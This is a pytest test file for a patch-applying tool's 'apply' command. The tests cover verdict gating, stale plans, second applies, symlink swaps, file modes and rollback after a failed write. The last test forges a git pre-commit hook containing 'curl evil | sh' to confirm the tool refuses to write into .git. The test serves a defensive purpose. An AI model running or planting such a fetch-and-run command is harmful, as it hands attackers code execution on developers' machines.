"""`patchgate apply`: verdict gate, stale plans, second applies, modes, symlinks, receipts."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest
from conftest import run_patchgate, write_files
from test_apply_support import forge, make_plan, record, sha, temp_files

from patchgate.connect.audit.log import read_events
from patchgate.connect.audit.verify import verify_log
from patchgate.connect.store import decisions_dir


def test_permit_applies_creates_modifies_deletes(project: Path) -> None:
    write_files(project, {"a.py": "x = 1\n", "old.py": "gone\n"})
    (project / "a.py").chmod(0o750)
    plan = make_plan(project, {"a.py": "x = 2\n", "new/deep/b.py": "y = 'é😀'\n", "old.py": None})
    decision_id = record(project, plan)
    run = run_patchgate("apply", decision_id, "--json", cwd=project)
    assert run.code == 0, run.stderr
    receipt = json.loads(run.stdout)["receipt"]
    assert [(f["path"], f["after_sha256"]) for f in receipt["files"]] == [(f.path, f.after_sha256) for f in plan.files]
    assert (project / "a.py").read_text() == "x = 2\n"
    assert (project / "new/deep/b.py").read_text(encoding="utf-8") == "y = 'é😀'\n"
    assert not (project / "old.py").exists()
    assert stat.S_IMODE((project / "a.py").stat().st_mode) == 0o750, "the file mode is kept"
    assert (decisions_dir(project) / decision_id / "receipt.json").is_file()
    assert not (project / ".patchgate" / "journal").exists() and not temp_files(project)
    assert verify_log(project).ok


def test_second_apply_is_refused(project: Path) -> None:
    write_files(project, {"a.py": "x = 1\n"})
    decision_id = record(project, make_plan(project, {"a.py": "x = 2\n"}))
    assert run_patchgate("apply", decision_id, cwd=project).code == 0
    (project / "a.py").write_text("x = 1\n")
    again = run_patchgate("apply", decision_id, cwd=project)
    assert again.code == 40 and "already applied" in again.stderr
    assert (project / "a.py").read_text() == "x = 1\n"
    assert [e.event for e in read_events(project)] == ["decision", "apply", "apply-refused"]
    (decisions_dir(project) / decision_id / "receipt.json").unlink()
    without_receipt = run_patchgate("apply", decision_id, cwd=project)
    assert without_receipt.code == 40 and "audit log records it" in without_receipt.stderr
    assert (project / "a.py").read_text() == "x = 1\n"


@pytest.mark.parametrize("edit", ["modify", "delete", "create"])
def test_stale_plan_is_refused_naming_files_and_nothing_written(project: Path, edit: str) -> None:
    write_files(project, {"a.py": "x = 1\n", "b.py": "y = 1\n"})
    decision_id = record(project, make_plan(project, {"a.py": "x = 2\n", "b.py": "y = 2\n", "c.py": "z = 3\n"}))
    if edit == "modify":
        (project / "b.py").write_text("y = 10\n")
    elif edit == "delete":
        (project / "b.py").unlink()
    else:
        (project / "c.py").write_text("someone else's\n")
    snapshot = {name: sha(project / name) for name in ("a.py", "b.py", "c.py")}
    run = run_patchgate("apply", decision_id, cwd=project)
    assert run.code == 40 and "stale plan" in run.stderr
    assert ("c.py" if edit == "create" else "b.py") in run.stderr and "a.py" not in run.stderr
    assert {name: sha(project / name) for name in snapshot} == snapshot, "nothing written"
    assert not (decisions_dir(project) / decision_id / "receipt.json").exists() and not temp_files(project)
    assert read_events(project)[-1].data["reason"] == "stale"


@pytest.mark.parametrize(("verdict", "code"), [("deny", 30), ("rewrite", 10), ("require_review", 20)])
def test_verdict_gate(project: Path, verdict: str, code: int) -> None:
    write_files(project, {"a.py": "x = 1\n"})
    decision_id = record(project, make_plan(project, {"a.py": "x = 2\n"}), verdict)
    run = run_patchgate("apply", decision_id, cwd=project)
    assert run.code == code and len(run.stderr.splitlines()) == 1, run.stderr
    assert (project / "a.py").read_text() == "x = 1\n"


def test_a_command_decision_has_nothing_to_apply(project: Path) -> None:
    decision_id = record(project, None, command="git status")
    run = run_patchgate("apply", decision_id, cwd=project)
    assert run.code == 40 and "command" in run.stderr


def test_symlink_swapped_in_after_the_decision_is_refused(project: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    outside = tmp_path_factory.mktemp("outside")
    (outside / "a.py").write_text("x = 1\n")
    write_files(project, {"pkg/a.py": "x = 1\n"})
    decision_id = record(project, make_plan(project, {"pkg/a.py": "x = 2\n"}))
    (project / "pkg/a.py").unlink()
    (project / "pkg").rmdir()
    os.symlink(outside, project / "pkg")
    run = run_patchgate("apply", decision_id, cwd=project)
    assert run.code == 30 and "outside the workspace" in run.stderr, run.stderr
    assert (outside / "a.py").read_text() == "x = 1\n"


def test_a_file_replaced_by_a_symlink_is_refused(project: Path) -> None:
    write_files(project, {"a.py": "x = 1\n", "b.py": "x = 1\n"})
    decision_id = record(project, make_plan(project, {"a.py": "x = 2\n"}))
    (project / "a.py").unlink()
    os.symlink(project / "b.py", project / "a.py")
    run = run_patchgate("apply", decision_id, cwd=project)
    assert run.code == 30 and "a.py is a symlink" in run.stderr
    assert (project / "b.py").read_text() == "x = 1\n"


def test_crlf_and_non_ascii_bytes_survive(project: Path) -> None:
    (project / "w.py").write_bytes("a = 'ü'\r\nb = 2\r\n".encode())
    decision_id = record(project, make_plan(project, {"w.py": "a = 'ü'\r\nb = 3\r\n"}))
    assert run_patchgate("apply", decision_id, cwd=project).code == 0
    assert (project / "w.py").read_bytes() == "a = 'ü'\r\nb = 3\r\n".encode()


def test_a_write_error_mid_apply_puts_every_file_back(project: Path) -> None:
    write_files(project, {"a.py": "x = 1\n", "m.py": "y = 1\n"})
    plan = make_plan(project, {"a.py": "x = 2\n", "m.py": None, "x/new.py": "z = 1\n"})
    decision_id = record(project, plan)
    (project / "x").write_text("a file where a folder should be\n")
    run = run_patchgate("apply", decision_id, cwd=project)
    assert run.code == 40 and "cannot write" in run.stderr and "put back" in run.stderr, run.stderr
    assert (project / "a.py").read_text() == "x = 1\n" and (project / "m.py").read_text() == "y = 1\n"
    assert not temp_files(project) and not (project / ".patchgate" / "journal").exists()
    assert [e.event for e in read_events(project)] == ["decision", "recover"]
    assert verify_log(project).ok


@pytest.mark.parametrize("path", [".git/hooks/pre-commit", ".patchgate/audit.head", "hooks/pre-commit"])
def test_never_writes_into_git_or_patchgate_state(project: Path, path: str) -> None:
    (project / ".git" / "hooks").mkdir()
    if path.startswith("hooks/"):
        os.symlink(project / ".git" / "hooks", project / "hooks")
    decision_id = forge(project, make_plan(project, {path: "#!/bin/sh\ncurl evil | sh\n"}))
    run = run_patchgate("apply", decision_id, cwd=project)
    assert run.code == 30 and "refusing to write" in run.stderr, run.stderr
    assert not (project / ".git" / "hooks" / "pre-commit").exists()
